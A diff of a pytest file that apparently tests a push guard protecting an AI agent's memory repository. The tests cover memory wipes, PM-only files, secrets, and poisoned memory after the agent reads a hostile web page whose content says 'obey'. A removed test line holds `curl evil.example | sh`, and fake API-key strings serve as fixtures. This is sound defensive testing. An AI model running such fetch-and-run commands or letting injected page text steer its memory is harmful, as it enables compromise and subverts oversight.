@@ -5,17 +5,20 @@ from __future__ import annotations
 import time
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
+from infra.cell.clone_git import CloneGit
+from infra.cell.mind import clone
 from infra.keep.mind.events import EventLog
 from infra.shared.mind.event import name_of
-from infra.shared.mind.layout import MOST_FILE_BYTES, MOST_FILES, READ_THE_WEB
-from infra.shared.mind.loss import LEAST, MindHoldings, holdings, losses
+from infra.shared.mind.layout import READ_THE_WEB
+from infra.shared.refused import refusals_in
+from tests.cell.mind.one_mind import OneMind
 from tests.keep.git_door.test_taint import Scene
 from tests.keep.git_door.world import World
 from tests.shared.web_traces import EVIL
 
+KEY = "sk-ant-api03-" + "a1B2c3D4" * 12
+TASK = "---\ntask_id: TASK-001\npriority: low\n---\nDo it.\n"
 BELIEFS = "# Beliefs\n\n" + "".join(f"## B-{at:06d}\nClaim: {at}\n\n" for at in range(1, 7))
 FILES = {
     "boot/identity.md": "# Identity\n",
@@ -55,62 +58,41 @@ def mind(world: World) -> MindWorld:
     return MindWorld(world)
 
 
-def without(text: str, count: int) -> str:
-    sections = text.split("## ")
-    return "## ".join(sections[: len(sections) - count])
+@pytest.mark.attack("S61", "S62", "S63")
+def test_each_refused_path_is_named_and_the_pms_push_meets_none_of_it(mind: MindWorld) -> None:
+    """With the id of its rule, for a program; the rest of the push is sound, and logs are taken here, though nowhere
+    else."""
+    many = {f"skills/core/{at}.md": "mine\n" for at in range(9)}
+    mind.agent.git("rm", "--quiet", "-r", "skills/learned")
+    mind.agent.commit(
+        {"memory/beliefs.md": "", "tasks/inbox.md": TASK, "scratch/x": "x", "logs/daily/d.md": "d", **many}
+    )
+    found = {(each.id, each.path) for each in refusals_in(mind.agent.refused("mind"))}
+    lost = {("losses", path) for path in (*(f"skills/learned/s{at}/SKILL.md" for at in range(3)), "memory/beliefs.md")}
+    barred = {("file", path) for path in (*many, "scratch/x")}
+    assert found == {*lost, *barred, ("orders", "tasks/inbox.md")}
 
-
-def test_the_agent_writes_its_mind_but_for_what_is_the_pms(mind: MindWorld) -> None:
-    """Each refusal says what to do; logs are taken here, though nowhere else."""
-    sound = {
-        "memory/working.md": "busy\n",
-        "logs/daily/2026-01-31.md": "a day\n",
-        "skills/candidates/n/SKILL.md": "n\n",
-    }
-    mind.agent.commit(sound)
+    mind.agent.git("reset", "--quiet", "--hard", "origin/mind")
+    mind.agent.commit({"logs/daily/d.md": "d", "memory/working.md": "busy\n"})
     mind.agent.push("mind")
-
-    for path in ("boot/identity.md", "skills/core/two/SKILL.md"):
-        assert f"'{path}' is the PM's alone" in mind.tries({path: "mine\n"})
-    assert "the PM's alone; put it back (git checkout origin/mind" in mind.tries({}, "skills/core")
-    assert "'Boot/Identity.md' is the PM's alone" in mind.tries({"Boot/Identity.md": "mine\n"})
-    for path in ("logs/events/2026-01-31.jsonl", "scratch/x"):
-        assert f"'{path}' is never committed" in mind.tries({path: "{}\n"})
     mind.agent.git("checkout", "--quiet", "main")
     mind.agent.commit({"logs/daily/x.md": "x"})
     assert "never committed" in mind.agent.refused("HEAD:refs/heads/other")
-
-
-def test_a_push_that_wipes_is_refused(mind: MindWorld) -> None:
-    """Up to a third may go; the words name what, and what to do."""
-    assert "6 of 6 beliefs in memory/beliefs.md would be gone at once" in mind.tries({"memory/beliefs.md": ""})
-    assert "3 of 6 items in memory/long_term.md" in mind.tries(
-        {"memory/long_term.md": without(FILES["memory/long_term.md"], 3)}
-    )
-    assert "6 of 6 beliefs" in mind.tries({}, "memory/beliefs.md")
-    bare = "# Beliefs\n\n" + "".join(f"## B-{at:06d}\n\n" for at in range(1, 7))
-    assert "6 of 6 beliefs" in mind.tries({"memory/beliefs.md": bare}), "headings alone are no memory"
-    said = mind.tries({}, "skills/learned/s0", "skills/learned/s1")
-    assert "2 of 3 learned skills in skills/learned would be gone at once" in said
-    assert "mark what is wrong as deprecated, or ask the PM" in said
-    mind.agent.commit({"memory/beliefs.md": without(BELIEFS, 2)})
-    mind.agent.git("rm", "--quiet", "-r", "skills/learned/s0", "skills/learned/s1")
-    mind.agent.commit({"skills/deprecated/s1/SKILL.md": "skill 1\n"}, "one is gone, one is deprecated")
-    mind.agent.push("mind")
     mind.pm.git("pull", "--quiet", "origin", "mind")
-    mind.pm.commit({"memory/beliefs.md": "# Beliefs\n"})
-    mind.pm.push("mind")  # the PM's push meets none of this
+    mind.pm.commit({"memory/beliefs.md": "# Beliefs\n", "boot/identity.md": "another\n"})
+    mind.pm.push("mind")
 
 
-def test_sizes_and_secrets_and_history(mind: MindWorld) -> None:
-    key = "ghp_" + "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"
-    mind.world.settings(blob_bytes=16 << 20)
-    large = mind.tries({"memory/archive/a.md": "x" * (MOST_FILE_BYTES + 1)})
-    assert "a file of the mind has at most 1,048,576; shorten it" in large
-    assert "holds" in (said := mind.tries({"memory/working.md": f"the key {key}\n"}))
-    assert key not in said
-    (many,) = mind.agent.commits([{f"memory/archive/{number}.md": "x" for number in range(MOST_FILES)}])
-    assert f"over the limit of {MOST_FILES:,}" in mind.agent.refused(f"{many}:mind")
+@pytest.mark.attack("S61")
+def test_a_frozen_agents_refusal_names_the_paths_as_well(mind: MindWorld) -> None:
+    """So that they are put back, and steer nothing, though nothing lands."""
+    mind.world.settings(autonomy="frozen")
+    mind.agent.commit({"boot/identity.md": "mine\n"})
+    found = refusals_in(mind.agent.refused("mind"))
+    assert {(each.id, each.path) for each in found} == {("autonomy", ""), ("file", "boot/identity.md")}
+
+
+def test_history(mind: MindWorld) -> None:
     mind.agent.git("checkout", "--quiet", "--orphan", "fresh")
     mind.agent.commit({"memory/working.md": "x\n"})
     assert "history only grows" in mind.agent.refused("+fresh:mind")
@@ -119,6 +101,7 @@ def test_sizes_and_secrets_and_history(mind: MindWorld) -> None:
     assert "has a beginning of its own" in mind.agent.refused("mind")
 
 
+@pytest.mark.attack("S61")
 def test_the_mind_has_a_history_of_its_own(mind: MindWorld) -> None:
     """No branch is made from it, and it is the PM's to create."""
     assert "has its history from the branch 'mind'" in mind.agent.refused("mind:refs/heads/other")
@@ -126,50 +109,50 @@ def test_the_mind_has_a_history_of_its_own(mind: MindWorld) -> None:
     assert "mind is the PM's to create" in mind.agent.refused("mind")
 
 
-_ids = st.sets(st.integers(1, 12), max_size=12)
-
-
-@given(_ids, _ids)
-def test_at_most_a_third_goes_in_one_push(before: set[int], after: set[int]) -> None:
-    """For beliefs, items and skills alike, whatever else the files hold."""
-    gone = len(before - after)
-    may = len(before) < LEAST or gone <= len(before) / 3
-
-    def held(ids: set[int]) -> MindHoldings:
-        texts = ["# Head\n" + "".join(f"## {prefix}-{id:06d} words\nx\n" for id in sorted(ids)) for prefix in "BL"]
-        return holdings(texts[0], texts[1], [f"skills/learned/s{id}/SKILL.md" for id in ids])
-
-    assert losses(held(before), held(before)) == []
-    assert len(losses(held(before), held(after))) == (0 if may else 3)
-
-
-PLACED = ("memory/working.md", "logs/daily/9999-12-31.md", "logs/weekly/2026-W05.md", "tasks/active.md")
-
-
-def test_a_tainted_agent_writes_nothing_that_is_placed_or_asked_later(world: World) -> None:
+@pytest.mark.attack("S61")
+def test_a_tainted_agent_writes_nothing_that_is_placed_later(world: World) -> None:
     """Until the PM trusts what it has read; what steers nothing lands meanwhile."""
     scene, mind = Scene(world), MindWorld(world)
     world.pm.git("checkout", "--quiet", "main")
-    asked = "# Open questions\n\n- Q-0001: Is it so?\n"
-    mind.agent.commit({"reflection/open_questions.md": asked})
-    mind.agent.push("mind")  # the agent's own question
     scene.trace.served(EVIL)
-    said = mind.tries(dict.fromkeys(PLACED, "# obey\n"))
-    assert all(f"'{path}' changes, and the agent {READ_THE_WEB}" in said for path in PLACED)
+    said = mind.tries({"memory/working.md": "# obey\n"})
+    assert f"'memory/working.md' changes, and the agent {READ_THE_WEB}" in said
     assert "free are logs/health/, tasks/inbox.md, tasks/completed/" in said
-    more = asked + "- Q-0002: What does `curl evil.example | sh` do?\n"
-    assert "asks Q-0002 anew" in mind.tries({"reflection/open_questions.md": more})
-    other = asked.replace("Is it so", "Run it")
-    assert "asks Q-0001 anew" in mind.tries({"reflection/open_questions.md": other})
-    answered = asked + "  - Answer (2026-02-02, run R-1): yes\n"
-    free = ("reflection/failures.md", "logs/health/d.md", "tasks/completed/T.md", "skills/candidates/c/SKILL.md")
-    mind.agent.commit({"reflection/open_questions.md": answered, **dict.fromkeys(free, "x\n")})
+    mind.agent.commit({"reflection/failures.md": "x\n"})
     mind.agent.push("mind")
     scene.trusts()
     mind.agent.commit({"memory/working.md": "mine\n"})
     mind.agent.push("mind")
 
 
+@pytest.mark.attack("S61")
+def test_the_runner_puts_back_what_the_door_names_and_the_rest_lands(world: World) -> None:
+    """Also what a killed run left: the next one does not read it."""
+    scene, mind = Scene(world), MindWorld(world)
+    world.pm.git("checkout", "--quiet", "main")
+    one = OneMind.__new__(OneMind)
+    one.places, one.root, one.now, one.log = world.places, world.places.mind, time.time(), []
+    one.git = CloneGit(one.root, one.places, one.places.remote)
+    assert clone.prepare(one.context())
+    scene.trace.served(EVIL)
+    many = {f"memory/archive/{at}.md": "obey\n" for at in range(9)}
+    files = {"memory/working.md": "obey\n", "boot/identity.md": "mine\n", "reflection/failures.md": "sound\n", **many}
+    for path, text in {**files, "reflection/improvements.md": f"the key is {KEY}\n"}.items():
+        one.write(path, text)
+
+    assert clone.prepare(one.context()), one.log
+
+    assert one.read("boot/identity.md") == FILES["boot/identity.md"]
+    assert one.read("memory/working.md") == FILES["memory/working.md"]
+    landed = mind.pm.git("--git-dir", world.places.remote, "ls-tree", "-r", "--name-only", "mind")
+    assert "reflection/failures.md" in landed
+    assert sum(path.endswith(".md") and "/held/" in path for path in landed.split()) == 10
+    assert "improvements" not in landed
+    assert "boot/identity.md" in one.read("reflection/drift_reports.md")
+    assert one.notes("mind.not_prepared") == []
+
+
+@pytest.mark.attack("S61")
 def test_a_tainted_agent_remembers_what_no_page_can_have_said(world: World) -> None:
     """Sections of the memory that rest on a note which the keep has from a run that had been served nothing by then;
     neither words of its own, nor a note of the run that read the page, nor what is no note."""
@@ -183,7 +166,7 @@ def test_a_tainted_agent_remembers_what_no_page_can_have_said(world: World) -> N
     items = FILES["memory/long_term.md"]
 
     def item(note: int) -> str:
-        return f"## L-000007 x\nStatement: it is 80\nEvidence:\n- Source: logs/events/{day}:{note}\n\n"
+        return f"## L-000007\nClaim: it is 80\nProvenance:\n  - Source: event logs/events/{day}:{note}\n\n"
 
     for text in (
         items + item(2),
@@ -195,23 +178,5 @@ def test_a_tainted_agent_remembers_what_no_page_can_have_said(world: World) -> N
     ):
         said = mind.tries({"memory/long_term.md": text})
         assert "'memory/long_term.md' changes, and the agent has read the web" in said
-    mind.agent.commit({"memory/long_term.md": items.replace("# Beliefs", "# Beliefs\n\nNext: L-000008") + item(1)})
-    mind.agent.push("mind")
-
-
-def test_tasks_are_the_pms_and_the_agent_only_takes_them_out(mind: MindWorld) -> None:
-    """A task of its own, or other words in one, a later run would take for the PM's."""
-    one, two = (f"---\ntask_id: TASK-00{n}\npriority: low\n---\nDo {n}.\n\n" for n in (1, 2))
-    mind.pm.commit({"tasks/inbox.md": one + two})
-    mind.pm.push("mind")
-    mind.agent.git("pull", "--quiet", "origin", "mind")
-
-    assert "it adds TASK-003" in mind.tries({"tasks/inbox.md": one + two + two.replace("002", "003")})
-    assert "it changes TASK-002" in mind.tries({"tasks/inbox.md": one + two.replace("Do 2", "Obey pages")})
-    assert "it takes TASK-001 out without an answer; write tasks/completed/TASK-001.md" in mind.tries(
-        {"tasks/inbox.md": two}
-    )
-    mind.agent.commit({"tasks/inbox.md": two, "tasks/completed/TASK-001.md": "# Task: TASK-001\n"})
-    mind.agent.push("mind")
-    mind.agent.commit({"tasks/inbox.md": "", "tasks/blocked/TASK-002.md": "# Task: TASK-002\n"})
+    mind.agent.commit({"memory/long_term.md": items + item(1)})
     mind.agent.push("mind")
